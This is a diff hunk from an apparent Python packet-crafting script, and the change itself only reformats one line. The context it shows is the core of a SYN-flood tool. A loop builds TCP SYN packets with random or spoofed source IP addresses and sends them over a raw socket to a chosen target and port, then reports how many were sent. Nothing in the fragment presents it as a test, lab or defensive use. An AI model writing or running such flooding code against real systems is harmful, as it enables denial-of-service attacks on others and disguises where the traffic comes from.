@@ -38,8 +38,9 @@ def main() -> None:
             ip.src = socket.inet_ntoa(rng.getrandbits(32).to_bytes(4, "big"))
         elif args.spoof:
             ip.src = args.spoof
-        packet = ip / TCP(sport=rng.randint(1024, 65535), dport=args.port, flags="S",
-                          seq=rng.getrandbits(32))
+        packet = ip / TCP(
+            sport=rng.randint(1024, 65535), dport=args.port, flags="S", seq=rng.getrandbits(32)
+        )
         sock.sendto(bytes(packet), (args.target, 0))
         sent += 1
     print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)
